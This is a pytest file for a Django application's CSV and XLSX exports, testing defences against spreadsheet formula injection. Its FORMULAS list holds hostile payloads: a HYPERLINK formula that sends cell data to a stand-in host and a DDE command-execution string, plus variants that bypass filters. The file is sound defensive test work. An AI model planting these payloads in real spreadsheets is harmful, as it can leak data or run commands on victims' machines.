"""I3 (ASVS 1.2.10): export formula injection. Every CSV and XLSX export H2H has — found by grepping h2h/ for
"text/csv" and openpyxl — writes text a spreadsheet could read as a formula (starting = + - @, tab or CR) so
that it cannot be: a leading apostrophe in CSV (RFC 4180 quoting that round-trips through Python's csv
reader), a
string cell with Excel's quote prefix in XLSX (never a formula cell).

Exports: /hospital-activity/<id>/errors.csv (h2h/hospital/views.py), /outcomes/cases.csv
(h2h/hospital/views_outcomes.py), /evaluation/export.csv (h2h/evaluation/export.py),
/evaluation/evaluation.xlsx (h2h/evaluation/render.py) and /reports/monthly/<month>.xlsx
(h2h/reports/xlsx.py); the helper h2h.lib.spreadsheet.spreadsheet_safe, as each CSV export imports it, and
h2h.reports.xlsx.write_text.
"""

import csv
import io
import re
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from h2h.accounts.roles import Role
from h2h.evaluation import export as evaluation_export
from h2h.evaluation.costbook import cost_item_change
from h2h.hospital import views as hospital_views
from h2h.hospital import views_outcomes
from h2h.hospital.models import Extract
from h2h.lib import spreadsheet
from h2h.reports.xlsx import write_text
from tests.factories import make_org, make_user
from tests.test_evaluation import rehoused_case, shipped_cost_book
from tests.test_monthly_report import october  # noqa: F401 — the fixture: an HHC named like a formula
from tests.test_outcomes_pages import _case

pytestmark = pytest.mark.django_db

# Each starts with a character Excel, LibreOffice or Google Sheets reads as the start of a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", '=1+1,"quoted",\nnext line']
BASE_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What the check list (I3) also names and the XLSX helper already treats as a trigger: a trigger behind
# leading spaces, a BOM or a control character, and | or %.
EXTENDED = [" =1+1", "\ufeff=1+1", "\x00=1+1", "\x1b=1+1", "|calc", "%0A=1+1"]
# The one helper every CSV export uses (h2h/lib/spreadsheet.py), as each export module sees it.
CSV_HELPERS = {
    "lib.spreadsheet": spreadsheet.spreadsheet_safe,
    "evaluation.export": evaluation_export.spreadsheet_safe,
    "hospital.views": hospital_views.spreadsheet_safe,
    "hospital.views_outcomes": views_outcomes.spreadsheet_safe,
}
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _roundtrip(cells) -> list:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(cells)
    return next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


@pytest.mark.parametrize("helper", CSV_HELPERS, ids=list(CSV_HELPERS))
def test_csv_helpers_neutralise_every_trigger_and_round_trip(helper):
    """I3 (ASVS 1.2.10): each CSV helper prefixes = + - @ tab CR with an apostrophe; the cells round-trip
    exactly through csv.writer and csv.reader; numbers and text that is not a formula pass unchanged."""
    safe = CSV_HELPERS[helper]
    cells = [safe(value) for value in FORMULAS]
    assert all(cell == "'" + value for cell, value in zip(cells, FORMULAS, strict=True))
    assert _roundtrip(cells) == cells
    plain = ["Older people", "2026-05-01", "", "a=b"]
    assert [safe(v) for v in plain] == plain
    assert safe(-3) == -3 and safe(2.5) == 2.5 and safe(None) is None


@pytest.mark.parametrize("helper", CSV_HELPERS, ids=list(CSV_HELPERS))
def test_csv_helpers_neutralise_triggers_behind_spaces_bom_and_control_characters(helper):
    """I3 (ASVS 1.2.10): leading whitespace, BOM or a control character before a trigger, and | or %."""
    safe = CSV_HELPERS[helper]
    assert all(str(safe(value)).startswith("'") for value in EXTENDED)


def test_xlsx_helper_writes_text_cells_never_formulas():
    """I3 (ASVS 1.2.10): h2h.reports.xlsx.write_text stores every value as a string cell; triggers (also
    behind spaces, BOM or control characters, and | or %) get Excel's quote prefix; saved and read back the
    workbook holds the exact text and no formula."""
    book = Workbook()
    values = [*FORMULAS, *[v for v in EXTENDED if "\x00" not in v and "\x1b" not in v], "plain text"]
    for row, value in enumerate(values, start=1):
        write_text(book.active.cell(row=row, column=1), value)
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    for row, value in enumerate(values, start=1):
        cell = sheet.cell(row=row, column=1)
        # XML stores a lone CR as LF; the text is otherwise exact.
        assert cell.data_type == "s" and cell.value == value.replace("\r", "\n"), (value, cell.data_type)
        assert cell.quotePrefix == (value != "plain text"), value


# --- through the routes -------------------------------------------------------------------------------------

def _assert_csv_safe(content: bytes, seeded: list[str]) -> list[list[str]]:
    """No cell starts with a trigger unless it is a number; every seeded string comes back exactly,
    prefixed."""
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for r in rows for cell in r]
    live = [c for c in cells if c.startswith(BASE_TRIGGERS) and not NUMBER.match(c)]
    assert live == [], live
    for value in seeded:
        assert "'" + value in cells, (value, "not found prefixed")
    return rows


def test_hospital_error_report_csv_neutralises_formulas(client):
    """I3 (ASVS 1.2.10): /hospital-activity/<id>/errors.csv — the I1 row-error report, whose column names and
    reasons can carry what the sender wrote (an unknown column named like a formula)."""
    evaluator = make_user(Role.EVALUATOR)
    errors = [{"line": n + 2, "column": value, "reason": value} for n, value in enumerate(FORMULAS)]
    extract = Extract.objects.create(kind="admissions", file_format="csv", file_name="=evil.csv", sha256="x",
                                     size_bytes=1, provider="+Trust", uploaded_by=evaluator,
                                     status=Extract.Status.REJECTED, errors=errors, error_count=len(errors))
    client.force_login(evaluator)
    response = client.get(reverse("hospital:extract-errors", args=[extract.pk]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = _assert_csv_safe(response.content, FORMULAS)
    assert len(rows) == 1 + len(FORMULAS)


def test_outcomes_case_csv_neutralises_formulas(client):
    """I3 (ASVS 1.2.10): /outcomes/cases.csv with cohorts seeded as formula strings."""
    today = timezone.localdate()
    evaluator, hhc = make_user(Role.EVALUATOR), make_user(Role.HHC)
    extract = Extract.objects.create(kind="admissions", file_format="csv", file_name="a.csv", sha256="x",
                                     size_bytes=1, provider="Trust",
                                     period_start=today - timedelta(days=1200), period_end=today,
                                     uploaded_by=evaluator, status="applied")
    seeded = FORMULAS[:6]
    for n, formula in enumerate(seeded):
        _case(n, hhc=hhc, extract=extract, cohort=formula)
    client.force_login(evaluator)
    response = client.get(reverse("outcomes:cases-csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = _assert_csv_safe(response.content, seeded)
    assert len(rows) == 1 + len(seeded)


def test_evaluation_pseudonymised_export_csv_neutralises_formulas(client, settings):
    """I3 (ASVS 1.2.10): /evaluation/export.csv with cohorts seeded as formula strings."""
    settings.H2H_PSEUDONYM_KEY = "k" * 40
    seeded = FORMULAS[:6]
    for n, formula in enumerate(seeded):
        rehoused_case(days=30 + n, tenancy_on=date(2026, 5, 1), cohort=formula,
                      sharing=("housing", "evaluation"))
    client.force_login(make_user(Role.EVALUATOR, organisation=make_org("ICB", kind="commissioner")))
    response = client.get("/evaluation/export.csv?from=2025-11&to=2026-10")
    assert response.status_code == 200, response.content[:300]
    rows = _assert_csv_safe(response.content, seeded)
    assert len(rows) == 1 + len(seeded)


def _assert_xlsx_safe(content: bytes, seeded: list[str]) -> int:
    """No formula cell anywhere; every string cell starting with a trigger has the quote prefix; the seeded
    strings are all there as text. Returns the number of cells checked."""
    book = load_workbook(io.BytesIO(content))
    found, checked = set(), 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                checked += 1
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    if cell.value.startswith(BASE_TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    found.update(s for s in seeded if s in cell.value)
    assert found == set(seeded), set(seeded) - found
    return checked


def test_evaluation_workbook_writes_cost_book_text_as_text(client):
    """I3 (ASVS 1.2.10): /evaluation/evaluation.xlsx with the cost book's unit and source (typed by the
    project manager) seeded as formula strings."""
    shipped_cost_book()
    pm = make_user(Role.PROJECT_MANAGER)
    seeded = ["=1+1 per day", "@SUM(A1) source"]
    cost_item_change(code="bed_day_acute_hospital", by=pm, reason="I3", value=Decimal("400"),
                     price_year="2025/26", unit=seeded[0], source=seeded[1], description="Acute bed day")
    rehoused_case(days=40, tenancy_on=date(2026, 5, 1))
    client.force_login(pm)
    response = client.get("/evaluation/evaluation.xlsx?from=2025-11&to=2026-10")
    assert response.status_code == 200, response.content[:300]
    assert _assert_xlsx_safe(response.content, seeded) > 50


def test_monthly_report_workbook_writes_names_as_text(client, october):  # noqa: F811
    """I3 (ASVS 1.2.10): /reports/monthly/<month>.xlsx, a coordinator's name seeded as a formula."""
    client.force_login(make_user(Role.PROJECT_MANAGER))
    response = client.get(reverse("reports:monthly-xlsx", args=["2025-10"]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.value is not None]
    assert cells and not [c for c in cells if c.data_type == "f"]
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(BASE_TRIGGERS)
            and not c.quotePrefix]
    assert live == []
